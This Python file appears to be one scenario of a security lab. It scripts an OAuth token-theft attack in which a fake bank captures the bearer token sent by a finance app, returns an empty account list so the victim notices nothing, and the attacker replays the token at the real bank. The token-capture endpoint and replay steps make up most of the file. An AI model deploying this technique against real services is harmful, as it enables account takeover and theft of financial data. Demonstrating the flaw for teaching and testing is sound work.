"""A false bank waits for a token, and goes with it to the true one."""

from typing import Any

from flask import Response, jsonify, request

from labs.chromium import BrowserStage
from labs.stage import Stage, Stuck
from labs.steps import step


def accounts(world: Any) -> Response:
    """Answer as a bank does that has nothing to show, and keep the token."""
    token = request.headers.get("Authorization", "").removeprefix("Bearer ")
    world.collection.keep({"access_token": token}, f"{request.method} /accounts, in the header")
    # Balance must not notice: an error would be shown to Alice before the token has been used.
    answer = jsonify(accounts=[])
    answer.headers["Access-Control-Allow-Origin"] = "*"
    answer.headers["Access-Control-Allow-Headers"] = "Authorization"
    return answer


PAGES = {"/accounts": accounts}


@step("attacker")
def makes_a_link(stage: Stage) -> None:
    """Make a link to Balance in which the bank's URL is filled in already: it is the false bank's."""
    stage.onward = f"{stage.here.balance}/?bank={stage.here.attacker}"


@step("Alice")
def alice_connects(stage: BrowserStage) -> None:
    """Follow the link and connect: at Bank ID sign in as alice, and allow."""
    balance = stage.alice.go(f"{stage.here.balance}/?bank={stage.here.attacker}")
    if balance.tab.get_by_label("Your bank’s URL").count():
        balance.click("Connect your bank", leads_to=stage.here.auth)
    else:  # this Balance knows one bank only: a link of the attacker's names the false one all the same
        balance.go(stage.link("balance", stage.callback("balance"), resource=stage.here.attacker))
    balance.agree().rest()


@step("attacker")
def goes_to_the_true_bank(stage: Stage) -> None:
    """Ask the true bank for Alice's accounts, with the token that Balance has shown to the false one."""
    token = stage.collection.newest("access_token")
    if not token:
        raise Stuck("no token came to the false bank")
    stage.attacker.bank("GET", "/accounts", token)
